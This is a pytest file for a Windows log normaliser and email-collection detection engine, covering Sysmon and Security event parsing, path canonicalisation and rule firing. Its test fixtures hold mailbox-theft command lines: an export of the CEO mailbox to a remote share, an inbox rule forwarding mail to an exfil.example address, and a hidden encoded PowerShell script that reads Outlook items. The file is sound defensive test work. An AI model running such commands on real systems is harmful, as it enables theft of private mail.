"""The Windows endpoint normaliser: Sysmon, Security and CIM shapes in, process/file events out."""

from app.normalise import NormaliseContext, normalise
from app.normalise.cmdlet_text import cmdlet_pattern
from app.normalise.windows_endpoint import access_names, bare_account, base_name
from app.problems import ProblemLog


def context(cmdlets=("New-MailboxExportRequest",)):
    return NormaliseContext(frozenset(), cmdlet_pattern(cmdlets), {}, ProblemLog())


def test_access_names_from_codes_words_and_mask():
    assert access_names("%%4416\n\t%%4423", "") == ("readdata", "readattributes")
    assert "readdata" in access_names("ReadData (or ListDirectory)", "")
    assert set(access_names("", "0x120089")) >= {"readdata", "readea", "readattributes", "read_control", "synchronize"}
    assert access_names("", "0x80000000") == ("generic_read",)
    assert access_names("", "2") == ("writedata",)
    assert access_names("", "not-a-mask") == ()


def test_names_and_accounts():
    assert base_name(r"C:\Windows\System32\cmd.exe") == "cmd.exe"
    assert base_name("/usr/bin/x") == "x"
    assert base_name("cmd.exe") == "cmd.exe"
    assert bare_account(r"CONTOSO\svc_backup") == "svc_backup"
    assert bare_account("svc_backup@contoso.com") == "svc_backup"


def test_sysmon_process_event_fields():
    events = normalise({
        "sourcetype": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", "EventCode": "1",
        "Computer": "ws-1", "User": r"CONTOSO\bob", "Image": r"C:\Windows\System32\cmd.exe",
        "CommandLine": "cmd /c dir", "ParentImage": r"C:\Windows\explorer.exe"}, context())
    assert len(events) == 1
    event = events[0]
    assert (event.source, event.operation, event.actor, event.dest) == ("process", "ProcessCreate", r"CONTOSO\bob", "ws-1")
    assert event.extra["process_name"] == "cmd.exe"
    assert event.extra["parent_process_name"] == "explorer.exe"
    assert event.extra["account_name"] == "bob"
    assert event.text == "cmd /c dir"


def test_process_command_line_yields_cmdlet_events():
    record = {
        "sourcetype": "XmlWinEventLog", "EventCode": "4688", "Computer": "ex01",
        "SubjectUserName": "exadmin", "SubjectDomainName": "CONTOSO",
        "NewProcessName": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "CommandLine": r'powershell -c "New-MailboxExportRequest -Mailbox ceo -FilePath \\10.0.0.9\c$\ceo.pst"'}
    events = normalise(record, context())
    assert [e.operation for e in events] == ["ProcessCreate", "New-MailboxExportRequest"]
    cmdlet = events[1]
    assert cmdlet.source == "process"
    assert cmdlet.parameters["filepath"] == r"\\10.0.0.9\c$\ceo.pst"
    assert cmdlet.mailbox == "ceo"
    assert (cmdlet.actor, cmdlet.dest) == (r"CONTOSO\exadmin", "ex01")


def test_forwarding_cmdlet_rule_fires_on_a_sysmon_command_line(engine):
    record = {
        "sourcetype": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", "EventCode": "1",
        "Computer": "ws-9", "User": r"CONTOSO\ops",
        "Image": r"C:\Program Files\PowerShell\7\pwsh.exe",
        "CommandLine": 'pwsh -c "New-InboxRule -Mailbox ceo@contoso.com -Name s -ForwardTo drop@exfil.example"'}
    assert "t1114_003_inbox_rule_forward_cmdlet" in [f.rule.id for f in engine.detect(record)]


def test_powershell_4104_still_goes_to_the_script_block_normaliser():
    events = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4104", "Computer": "ws",
                        "ScriptBlockText": "Get-Date", "Image": "x"}, context())
    assert [(e.source, e.operation) for e in events] == [("powershell", "ScriptBlock")]


def test_sysmon_xml_raw_only():
    raw = ("<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>11</EventID>"
           "<Computer>ws-5</Computer></System><EventData><Data Name='Image'>C:\\x.exe</Data>"
           "<Data Name='TargetFilename'>C:\\Temp\\a.pst</Data><Data Name='User'>CONTOSO\\amy</Data></EventData></Event>")
    events = normalise({"sourcetype": "XmlWinEventLog", "_raw": raw}, context())
    assert [(e.operation, e.extra["file_path"], e.dest, e.actor) for e in events] == [
        ("FileCreate", r"C:\Temp\a.pst", "ws-5", r"CONTOSO\amy")]


def test_unrelated_windows_events_are_ignored():
    assert normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4624", "TargetUserName": "bob"}, context()) == []
    assert normalise({"sourcetype": "XmlWinEventLog", "EventCode": "1", "Message": "x"}, context()) == []
    assert normalise({"sourcetype": "XmlWinEventLog", "_raw": "<Event><EventID>4624</EventID></Event>"}, context()) == []


def test_dash_values_count_as_missing():
    events = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4688", "SubjectUserName": "-",
                        "NewProcessName": r"C:\a.exe", "CommandLine": "-"}, context())
    assert events[0].actor == "" and events[0].text == ""


def test_odd_values_do_not_raise(engine):
    for record in (
        {"EventCode": "4663", "ObjectName": ["a.pst", "b.ost"], "ProcessName": None, "AccessMask": "0xZZ"},
        {"EventCode": "5145", "RelativeTargetName": "", "ShareName": 5},
        {"process_path": "", "process_name": ""},
        {"Processes.process": "x" * 100000 + ".pst", "Processes.process_name": "x.exe"},
        {"_raw": "<Event" + "<Data Name='a'>" * 1000},
    ):
        out = dict(record)
        engine.annotate(out)
        assert "t1114_status" in out
    assert not [m for m in engine.problems.messages() if m.startswith("An event could not be checked")]


def test_encoded_command_is_decoded_into_text(engine):
    import base64
    script = "$o = New-Object -ComObject Outlook.Application; $o.GetNamespace('MAPI').GetDefaultFolder(6).Items"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode("ascii")
    record = {"sourcetype": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational", "EventCode": "1",
              "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
              "CommandLine": "powershell.exe -NoP -W Hidden -enc " + encoded}
    events = normalise(record, context())
    assert events[0].extra["decoded_command"] == script
    assert engine.annotate(record)
    assert record["t1114_rule"] == "t1114_001_outlook_automation_script"
    assert record["t1114_severity"] == "high"


def test_not_an_encoded_command():
    for line in ("powershell -ErrorAction SilentlyContinue -File x.ps1", "cmd /c echo -e hello",
                 "powershell -enc !!!notbase64!!!"):
        events = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4688",
                            "NewProcessName": r"C:\p.exe", "CommandLine": line}, context())
        assert events[0].extra["decoded_command"] == ""


def test_base64_looking_word_is_not_decoded():
    events = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "4688", "NewProcessName": r"C:\p.exe",
                        "CommandLine": "tool.exe -e SilentlyContinueAndMore"}, context())
    assert events[0].extra["decoded_command"] == ""


# The file an event names, read the one way every reader and rule needs (app/windows_path.py).

def test_main_data_stream_is_the_file_and_a_named_stream_is_not():
    from app.windows_path import main_stream_path
    assert main_stream_path(r"C:\x\bob.pst::$DATA") == r"C:\x\bob.pst"
    assert main_stream_path(r"C:\x\bob.PST::$data") == r"C:\x\bob.PST"
    assert main_stream_path(r"C:\x\bob.pst:Zone.Identifier") == r"C:\x\bob.pst:Zone.Identifier"
    assert main_stream_path(r"C:\x\bob.pst:x:$DATA") == r"C:\x\bob.pst:x:$DATA"
    assert main_stream_path("") == ""


def test_a_path_is_in_a_profile_only_under_a_real_users_folder():
    from app.windows_path import path_in_profile
    assert path_in_profile(r"C:\Users\bob\Documents\Outlook Files\a.pst") == r"documents\outlook files\a.pst"
    assert path_in_profile(r"D:\Users\Bob\AppData\Local\Microsoft\Outlook\b.ost::$DATA") == \
        r"appdata\local\microsoft\outlook\b.ost"
    assert path_in_profile(r"\\?\C:\Users\bob\AppData\Local\Microsoft\Outlook\b.ost") == r"appdata\local\microsoft\outlook\b.ost"
    assert path_in_profile(r"C:\Documents and Settings\bob\Local Settings\Application Data\Microsoft\Outlook\o.ost") == \
        r"local settings\application data\microsoft\outlook\o.ost"
    for elsewhere in (r"C:\Users\Public\Documents\Outlook Files\a.pst", r"C:\Users\Default\Documents\Outlook Files\a.pst",
                      r"C:\Users\All Users\Documents\Outlook Files\a.pst", r"E:\Backup\Documents\Outlook Files\a.pst",
                      r"\\files01\home$\Users\bob\Documents\Outlook Files\a.pst", r"Users\bob\Documents\a.pst",
                      r"C:\Users\bob\Documents\Outlook Files\..\..\..\Public\Documents\Outlook Files\a.pst",
                      r"C:\Users\bob"):
        assert path_in_profile(elsewhere) == "", elsewhere


def _whole(engine):
    from tests.conftest import whole_reading
    return whole_reading(engine.context)


def test_file_facts_read_streams_profiles_and_renames(engine):
    event, = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "11", "Image": r"C:\Windows\System32\cmd.exe",
                        "TargetFilename": r"C:\Users\bob\Documents\Outlook Files\..\..\..\Public\b.pst::$DATA"},
                       _whole(engine))
    assert event.extra["file_path"] == r"C:\Users\bob\Documents\Outlook Files\..\..\..\Public\b.pst"
    assert event.extra["file_name"] == "b.pst"
    assert event.extra["file_path_in_profile"] == ""   # it is C:\Users\Public\b.pst
    assert event.extra["previous_file_path"] == ""
    renamed, = normalise({"sourcetype": "defender:advanced_hunting", "DeviceId": "d1", "ActionType": "FileRenamed",
                          "FolderPath": r"C:\Temp\n.dat", "FileName": "n.dat", "PreviousFolderPath": r"C:\Temp",
                          "PreviousFileName": "bob.pst", "InitiatingProcessFolderPath": r"C:\Windows\System32\cmd.exe"},
                         _whole(engine))
    assert (renamed.operation, renamed.extra["file_path"], renamed.extra["previous_file_path"]) == (
        "FileCreate", r"C:\Temp\n.dat", r"C:\Temp\bob.pst")


def test_process_events_carry_their_canonical_path(engine):
    event = normalise({"sourcetype": "XmlWinEventLog", "EventCode": "1", "CommandLine": "outlook.exe",
                       "Image": r"C:\Program Files\Microsoft Office\root\Office16\..\..\..\..\Users\Public\OUTLOOK.EXE"},
                      _whole(engine))[0]
    assert event.extra["canonical_process_path"] == r"c:\users\public\outlook.exe"
    assert event.extra["process_path"].endswith(r"Office16\..\..\..\..\Users\Public\OUTLOOK.EXE")


def test_outlook_files_outside_a_profile_is_a_mail_file_either_way(engine):
    """Read by a tool, a PST in E:\\Backup\\Documents\\Outlook Files is a mail file read; read by the
    real Outlook it is the allowlisted reader at work, as anywhere else. Written, only a real
    profile's Outlook Files folder is Outlook's."""
    def fired(record):   # unsuppressed findings: the shipped allowlist rows apply
        return [finding.rule.id for finding in engine.detect(dict(record)) if finding.suppressing_row is None]

    def read_by(process, path=r"E:\Backup\Documents\Outlook Files\bob.pst"):
        return {"sourcetype": "XmlWinEventLog", "EventCode": "4663", "ObjectName": path, "ProcessName": process,
                "AccessList": "%%4416", "SubjectUserName": "bob", "SubjectDomainName": "CONTOSO"}

    assert fired(read_by(r"C:\Tools\pstdump.exe")) == ["t1114_001_mail_file_read"]
    assert fired(read_by(r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE")) == []
    assert fired(read_by(r"C:\Program Files\Microsoft Office\root\Office16\..\..\..\..\Temp\OUTLOOK.EXE")) == [
        "t1114_001_mail_file_read"]

    def written(path):
        return {"sourcetype": "XmlWinEventLog", "EventCode": "11", "TargetFilename": path,
                "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"}

    assert fired(written(r"C:\Users\bob\Documents\Outlook Files\a.pst")) == []
    assert fired(written(r"C:\Users\Public\Documents\Outlook Files\a.pst")) == ["t1114_001_mail_file_written_outside_outlook"]
    assert fired(written(r"E:\Backup\Documents\Outlook Files\a.pst")) == ["t1114_001_mail_file_written_outside_outlook"]


class _LoggedRecord(dict):
    """A record that notes the names read with get()."""

    def __init__(self, record, read):
        dict.__init__(self, record)
        self.read = read

    def get(self, name, default=None):
        self.read.append(name)
        return dict.get(self, name, default)


def test_windows_recognisers_read_only_their_tables_recognition_fields():
    """Each Windows reader's recogniser reads the fields its table declares for recognition (and
    what RecordView reads for every recogniser: the sourcetype, source, EventCode and _raw)."""
    from app.normalise import REGISTRY, RecordView
    from tests.helpers import AWKWARD_EVENTS
    from tests.rule_events import all_cases, presentations
    view_fields = {"sourcetype", "source", "EventCode", "EventID", "_raw"}
    records = [record for _, _, case in all_cases() for _, record in presentations(case)] + AWKWARD_EVENTS
    checked = set()
    for normaliser in REGISTRY:
        if normaliser.name not in ("windows_endpoint", "defender_xdr", "windows_logon"):
            continue
        declared = {name for what, names in normaliser.table.fields.items() if what.startswith("recognition")
                    for name in names}
        for record in records:
            read = []
            view = RecordView(_LoggedRecord(record, read))
            view.event_code   # noqa: B018 - what every recogniser may ask first, read outside the log
            del read[:]
            normaliser.recognises(view)
            outside = set(read) - declared - view_fields
            assert not outside, (normaliser.name, outside, record)
        checked.add(normaliser.name)
    assert checked == {"windows_endpoint", "defender_xdr", "windows_logon"}
